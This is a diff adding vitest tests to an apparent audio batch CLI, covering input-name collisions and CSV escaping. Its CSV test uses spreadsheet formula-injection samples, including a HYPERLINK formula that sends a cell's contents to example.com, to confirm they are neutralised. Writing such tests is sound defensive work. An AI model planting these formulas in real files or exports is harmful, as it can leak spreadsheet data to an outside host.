@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { main } from '../../src-main/cli/main';
+import { type BatchInput, checkStems } from '../../src-main/cli/batch';
 import { applyAssignments, parseAssignment } from '../../src-main/cli/overrides';
 import { ProgressDisplay } from '../../src-main/cli/progress';
 import { parseRunArguments } from '../../src-main/cli/run';
@@ -150,6 +151,23 @@ describe('--shard K/N', () => {
   });
 });
 
+describe('input folders', () => {
+  const input = (shown: string, stem: string): BatchInput => ({ path: `/data/${shown}`, shown, stem });
+
+  it('refuses two inputs whose folders one macOS or Windows disk would take for one', () => {
+    // Files from a Linux disk may name é both ways; macOS opens either name as the one folder.
+    const composed = 'caf\u00e9', decomposed = 'cafe\u0301';
+    for (const [a, b] of [
+      [input(`a/${composed}.wav`, composed), input(`b/${decomposed}.wav`, decomposed)],
+      [input('a/take1.wav', 'take1'), input('b/take1..wav', 'take1.')],
+      [input('a/Take1.wav', 'Take1'), input('b/take1 .wav', 'take1 ')],
+    ] as const) {
+      expect(() => checkStems([a, b])).toThrow(new RegExp(`^--each: ${a.shown} and ${b.shown.replace('.', '\\.')} would both write their results to `));
+    }
+    expect(() => checkStems([input('a/take1.wav', 'take1'), input('b/take1a.wav', 'take1a'), input(`c/${composed}.wav`, composed)])).not.toThrow();
+  });
+});
+
 describe('summary.csv', () => {
   it('quotes as RFC 4180 says, ends records in CRLF, and gives each value field a column', () => {
     const rows: SummaryRow[] = [
@@ -165,6 +183,21 @@ describe('summary.csv', () => {
       ['data/a,1.wav', 'a,1', 'ok', '12.3', '', '1.5', 'Infinity', '', ''],
       ['data/b.wav', 'b', 'failed', '3', 'in (source.audio): "b.wav": not a WAV,\\u000Asee', '', '', '', ''],
       ['data/c.wav', 'c', 'check failed', '4', 'cmp: no match', '-2', '', 'NaN', '0'],
+    ]);
+  });
+
+  it("writes a text a spreadsheet would run as a formula with a leading ', and numbers as they are", () => {
+    // The files and the graph come from others: a file name, a sink's id, an error quoting a param.
+    const rows: SummaryRow[] = [
+      { input: '=HYPERLINK("https://example.com/?"&A3,"open").wav', output: '=HYPERLINK("https://example.com/?"&A3,"open")', status: 'ok', ms: 1, error: '', values: [['@SUM(A1)', { sum: -2 }]] },
+      { input: '+1.wav', output: '+1', status: 'failed', ms: 2, error: '-2+3 is not a path', values: [] },
+      { input: 'plain=1.wav', output: 'plain=1', status: 'ok', ms: 3, error: '', values: [] },
+    ];
+    expect(parseCsv(summaryCsv(rows))).toEqual([
+      ['input', 'output', 'status', 'ms', 'error', "'@SUM(A1).sum"],
+      [`'=HYPERLINK("https://example.com/?"&A3,"open").wav`, `'=HYPERLINK("https://example.com/?"&A3,"open")`, 'ok', '1', '', '-2'],
+      ["'+1.wav", "'+1", 'failed', '2', "'-2+3 is not a path", ''],
+      ['plain=1.wav', 'plain=1', 'ok', '3', '', ''],
     ]);
   });
 });
